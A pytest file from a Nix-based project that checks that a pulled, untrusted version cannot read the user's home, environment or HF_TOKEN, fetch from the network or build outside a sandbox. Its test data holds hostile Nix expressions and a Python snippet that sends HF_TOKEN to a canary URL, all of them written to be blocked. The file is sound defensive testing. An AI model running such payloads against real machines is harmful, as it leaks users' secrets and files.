"""A canary in the user's home, in a variable and on a server: versions from somebody else do not get at it, and what
they tried is told. Nix and the servers are real."""

import ctypes
import os
import platform
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from pycomfy.adapters.nix.build import BuildTarget, evaluate
from pycomfy.adapters.nix.settings import NixSettings, nix_environment
from pycomfy.adapters.versions.repository import VersionsRepository
from pycomfy.errors import BuildFailed, PycomfyError
from pycomfy.services.archive.bundle_export import export_bundle
from pycomfy.services.archive.bundle_import import import_bundle
from pycomfy.services.archive.restore_image import restore_image
from pycomfy.services.archive.restore_request import RestoreRequest
from pycomfy.services.archive.verify import VerifyRequest, verify
from pycomfy.services.versions.pull import pull
from pycomfy.services.versions.recorded_version import find_recorded_version
from pycomfy.services.workspace import Workspace
from tests.support.archived_versions import ArchivedVersions
from tests.support.canaries import Canary, canary_in
from tests.support.data_folders import new_paths
from tests.support.moments import NOW

# The project as it was, for what comes of it where nobody tries anything.
REAL = "import ./nix ({ project = ./.; } // arguments)"
PROGRAM = """
    builder = "${real.root}/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2";
    args = [ "--library-path" "${real.root}/usr/lib/x86_64-linux-gnu" "${real.root}/usr/bin/python3.11" "-ISBc" code ];
"""


@pytest.fixture
def canary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Canary]:
    with canary_in(tmp_path, monkeypatch) as found:
        # What a user may have set for other projects must not open it again.
        monkeypatch.setenv(
            "NIX_CONFIG",
            "experimental-features = nix-command flakes ca-derivations\nrestrict-eval = false\n"
            "sandbox-fallback = true\n"
            f"allow-unsafe-native-code-during-evaluation = true\nextra-sandbox-paths = {found.home}\n"
            f"allow-import-from-derivation = true\nallowed-uris = http://",
        )
        monkeypatch.setenv("NIX_PATH", f"home={found.home}")
        yield found


def project_of(expression: str) -> bytes:
    """A project whose image is an expression, in which `real` is the project as it should be."""
    text = f"{{ ... }}@arguments: let real = {REAL}; in real // {{ layout = {expression}; }}"
    return text.encode()


def pulled(lost: ArchivedVersions, default_nix: bytes, folder: Path) -> Workspace:
    """The data folder of somebody who pulled a version with this `default.nix`; all its sources are there."""
    theirs = VersionsRepository(folder / "theirs.git")
    files = dict(find_recorded_version(lost.workspace, "small@1").files)
    theirs.commit("small-evil", {**files, "default.nix": default_nix}, created_at=NOW, message="very nice")
    pull(lost.workspace, str(folder / "theirs.git"))
    return lost.workspace


def refusal(workspace: Workspace, *, offline: bool = True) -> str:
    """What restoring the version tells."""
    with pytest.raises(PycomfyError) as caught:
        restore_image(workspace, RestoreRequest("small-evil@1", offline=offline))
    return str(caught.value)


def logs(workspace: Workspace) -> str:
    return "\n".join(file.read_text() for file in (workspace.paths.data / "logs").glob("*"))


# What is told, as a pattern: newer versions of Nix name the outermost folder that may not be read.
EVALUATIONS = {
    "a file": ('throw (builtins.readFile "CANARY")', "tried to read HOME"),
    "a file that becomes a source": ('"${builtins.path { path = "CANARY"; }}"', "tried to read HOME"),
    "the folder": ('throw (toString (builtins.attrNames (builtins.readDir "HOME")))', "tried to read HOME"),
    "the search path": ("import <home/canary>", "home/canary"),
    "the environment of the process": ('throw (builtins.readFile "/proc/self/environ")', "tried to read /proc"),
    "a download": ('import (builtins.fetchurl "URL/x")', "tried to fetch URL/x"),
    "a tarball": ('import (builtins.fetchTarball "URL/x.tar.gz")', "tried to fetch URL/x.tar.gz"),
    "git": ('import (builtins.fetchGit "URL/x.git")', "tried to fetch .*URL/x.git"),
    "a flake": ('(builtins.getFlake "git+URL/x").outPath', "lake"),
    "a fetched tree": ('(builtins.fetchTree { type = "tarball"; url = "URL/x"; }).outPath', "flakes|fetchTree"),
    "a program": ('builtins.exec [ "touch" "WRITTEN" ]', "exec"),
    "a build": (
        'import (derivation { name = "x"; system = builtins.currentSystem; builder = "/bin/sh"; })',
        "run a build while it was evaluated",
    ),
}


@pytest.mark.parametrize("attempt", EVALUATIONS)
def test_evaluating_a_pulled_version_gets_at_nothing(
    lost: ArchivedVersions, canary: Canary, tmp_path: Path, attempt: str
) -> None:
    words = {"CANARY": str(canary.file), "HOME": str(canary.home), "URL": canary.url, "WRITTEN": str(canary.written)}
    expression, expected = EVALUATIONS[attempt]
    for word, value in words.items():
        expression, expected = expression.replace(word, value), expected.replace(word, value)
    workspace = pulled(lost, project_of(expression), tmp_path)
    told = refusal(workspace)
    assert re.search(expected, told), told
    canary.assert_untouched(told, logs(workspace))


def test_what_an_evaluation_prints_is_bounded(lost: ArchivedVersions, tmp_path: Path) -> None:
    twice = 'builtins.foldl\' (text: n: builtins.trace text (text + text)) "x" (builtins.genList (n: n) 40)'
    workspace = pulled(lost, project_of(twice), tmp_path)
    assert "it printed more than 16 MiB" in refusal(workspace)


def test_a_variable_is_empty_for_a_pulled_version(lost: ArchivedVersions, canary: Canary, tmp_path: Path) -> None:
    workspace = pulled(lost, project_of('throw "token=<${builtins.getEnv "HF_TOKEN"}>"'), tmp_path)
    told = refusal(workspace)
    assert "token=<>" in told
    canary.assert_untouched(told)


def send(canary: Canary) -> str:
    """A derivation that sends what it finds. It asks for HF_TOKEN, and by fixing its output for the network."""
    code = f"import os,urllib.request as u; u.urlopen('{canary.url}/'+os.environ.get('HF_TOKEN','none'))"
    return (
        f'let code = "{code}"; in derivation {{ name = "sender"; system = builtins.currentSystem; {PROGRAM} '
        'impureEnvVars = [ "HF_TOKEN" ]; outputHashAlgo = "sha256"; outputHash = "HASH"; }'
    )


@pytest.mark.parametrize("offline", [True, False])
def test_a_build_step_of_a_pulled_version_gets_no_network_by_fixing_its_output(
    lost: ArchivedVersions, canary: Canary, tmp_path: Path, offline: bool
) -> None:
    workspace = pulled(lost, project_of(send(canary).replace("HASH", "0" * 64)), tmp_path)
    told = refusal(workspace, offline=offline)
    assert "wants to fetch sender, which the lock does not pin; nothing was built" in told
    canary.assert_untouched(told, logs(workspace))


def test_nix_fetches_nothing_else_for_a_pulled_version(lost: ArchivedVersions, canary: Canary, tmp_path: Path) -> None:
    fetch = f'import <nix/fetchurl.nix> {{ url = "{canary.url}/leak"; name = "leak"; sha256 = "{"1" * 64}"; }}'
    workspace = pulled(lost, project_of(fetch), tmp_path)
    for offline in (True, False):
        assert "wants to fetch leak, which the lock does not pin" in refusal(workspace, offline=offline)
    canary.assert_untouched(logs(workspace))


def test_a_step_that_is_built_sees_nothing_of_this_machine(
    lost: ArchivedVersions, canary: Canary, tmp_path: Path
) -> None:
    attempts = {
        "file": f"open('{canary.file}').read()",
        "home": f"os.listdir('{canary.home}')",
        "variable": "os.environ['HF_TOKEN']",
        "network": f"socket.create_connection(('127.0.0.1', {canary.port}), 5)",
        "writing": f"open('{canary.written}', 'w')",
        "elsewhere": f"os.makedirs('{canary.home}') or open('{canary.written}', 'w').write('x')",
    }
    lines = "".join(
        f"\\ntry: print('{name}:', {code})\\nexcept Exception as e: print('{name}:', type(e).__name__)"
        for name, code in attempts.items()
    )
    step = (
        f'let code = "import os, socket{lines}\\nraise SystemExit(1)"; in derivation {{ name = "step"; '
        f'system = builtins.currentSystem; impureEnvVars = [ "HF_TOKEN" ]; {PROGRAM} }}'
    )
    workspace = pulled(lost, project_of(step), tmp_path)
    told = refusal(workspace)
    seen = dict(line.strip().split(": ", 1) for line in told.splitlines() if line.startswith("    "))
    assert seen["file"] == seen["home"] == "FileNotFoundError"
    assert seen["variable"] == "KeyError"
    assert seen["network"] in ("ConnectionRefusedError", "OSError")
    # What it writes in its sandbox is gone with it.
    canary.assert_untouched(told, logs(workspace))


def test_a_link_in_a_pulled_version_leads_to_no_file(lost: ArchivedVersions, canary: Canary, tmp_path: Path) -> None:
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "default.nix").write_text("{ platform }: { layout = throw (builtins.readFile ./link); }")
    (folder / "link").symlink_to(canary.file)
    with pytest.raises(BuildFailed, match=f"tried to read {canary.home}"):
        evaluate(lost.nix, BuildTarget(folder, "layout", "linux/amd64"))


def test_verifying_a_pulled_version_gets_at_nothing(lost: ArchivedVersions, canary: Canary, tmp_path: Path) -> None:
    """It is evaluated by everything that builds."""
    workspace = pulled(lost, project_of(f'throw (builtins.readFile "{canary.file}")'), tmp_path)
    versions = workspace.versions
    original, evil = versions.find("small@1"), versions.find("small-evil@1")
    for image in versions.images(original.tree).values():
        versions.add_image(evil.tree, image)
    with pytest.raises(PycomfyError) as caught:
        verify(workspace, VerifyRequest("small-evil@1", tmp_path))
    canary.assert_untouched(str(caught.value), logs(workspace))


def test_a_bundle_gets_at_nothing(lost: ArchivedVersions, canary: Canary, tmp_path: Path) -> None:
    workspace = pulled(lost, project_of(f'throw (builtins.readFile "{canary.file}")'), tmp_path)
    export_bundle(workspace, "small-evil@1", tmp_path / "evil.tar.zst")
    other = Workspace(new_paths(tmp_path / "other"), lost.nix)
    import_bundle(other, tmp_path / "evil.tar.zst")
    told = refusal(other)
    assert f"tried to read {canary.home}" in told and "do not use this project" in told
    canary.assert_untouched(told, logs(other))


def test_a_project_that_tries_nothing_is_restored_beside_all_that(lost: ArchivedVersions, canary: Canary) -> None:
    result = restore_image(lost.workspace, RestoreRequest("small@1", offline=True))
    assert result.same
    canary.assert_untouched()


def test_nix_is_started_without_the_users_variables(canary: Canary, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("NIX_SSL_CERT_FILE", "https_proxy", "NIX_REMOTE", "XDG_CACHE_HOME"):
        monkeypatch.setenv(name, "needed")
    started = nix_environment()
    assert canary.secret not in started.values() and "NIX_PATH" not in started
    assert {"HOME", "PATH", "NIX_SSL_CERT_FILE", "https_proxy", "NIX_REMOTE", "XDG_CACHE_HOME"} <= started.keys()


# — a machine that refuses namespaces —

_PR_SET_NO_NEW_PRIVS, _PR_SET_SECCOMP, _SECCOMP_FILTER = 38, 22, 2


def refuse_namespaces() -> None:
    """Let `clone` and `unshare` fail for new user and mount namespaces, as in many containers: by a filter of system
    calls, which programs inherit."""
    numbers = {"x86_64": (0xC000003E, 56, 272), "aarch64": (0xC00000B7, 220, 97)}
    audit, clone, unshare = numbers[platform.machine()]
    kill, allow, refuse = 0x80000000, 0x7FFF0000, 0x00050001  # … with EPERM
    load, equal, any_bit, give = 0x20, 0x15, 0x45, 0x06
    program = [
        (load, 0, 0, 4),  # the architecture
        (equal, 1, 0, audit),
        (give, 0, 0, kill),
        (load, 0, 0, 0),  # the system call
        (equal, 2, 0, clone),
        (equal, 1, 0, unshare),
        (give, 0, 0, allow),
        (load, 0, 0, 16),  # the low half of its first argument: flags
        (any_bit, 0, 1, 0x10000000 | 0x00020000),  # CLONE_NEWUSER, CLONE_NEWNS
        (give, 0, 0, refuse),
        (give, 0, 0, allow),
    ]

    class Instruction(ctypes.Structure):
        _fields_ = (("code", ctypes.c_ushort), ("jt", ctypes.c_ubyte), ("jf", ctypes.c_ubyte), ("k", ctypes.c_uint))

    class Program(ctypes.Structure):
        _fields_ = (("length", ctypes.c_ushort), ("instructions", ctypes.POINTER(Instruction)))

    instructions = (Instruction * len(program))(*(Instruction(*line) for line in program))
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.prctl(_PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) or libc.prctl(
        _PR_SET_SECCOMP, _SECCOMP_FILTER, ctypes.byref(Program(len(program), instructions)), 0, 0
    ):
        raise OSError(ctypes.get_errno(), "no filter of system calls")


_BUILD = """
import sys
from pathlib import Path
from pycomfy.adapters.nix.build import BuildTarget, build, evaluate
from pycomfy.adapters.nix.settings import NixSettings
from pycomfy.errors import PycomfyError
from tests.nix.test_canary import refuse_namespaces
refuse_namespaces()
settings = NixSettings(store=Path(sys.argv[1]))
try:
    plan = evaluate(settings, BuildTarget(Path(sys.argv[2]), "layout", "x"))
    build(settings, plan, Path(sys.argv[3]), lambda e: None)
except PycomfyError as e:
    print(type(e).__name__, e)
"""


def test_where_the_sandbox_cannot_be_made_nothing_is_built_without_it(empty: NixSettings, tmp_path: Path) -> None:
    project, written = tmp_path / "project", tmp_path / "written"
    project.mkdir()
    (project / "default.nix").write_text(
        f"""{{ platform }}: {{ layout = derivation {{
          name = "x"; system = builtins.currentSystem; builder = "{os.path.realpath("/bin/sh")}";
          args = [ "-c" "echo outside > {written}" ];
        }}; }}"""
    )
    command = [sys.executable, "-c", _BUILD, str(empty.store), str(project), str(tmp_path / "log")]
    done = subprocess.run(command, check=False, capture_output=True, text=True, cwd=Path(__file__).parents[2])
    if "no filter of system calls" in done.stderr:
        pytest.skip("this machine allows no filter of system calls")
    assert done.returncode == 0, done.stderr
    assert not written.exists()
    assert done.stdout.startswith("MissingTool Nix cannot make its sandbox on this machine, so nothing was built")
    assert "sandbox=False" in done.stdout and "doctor" in done.stdout
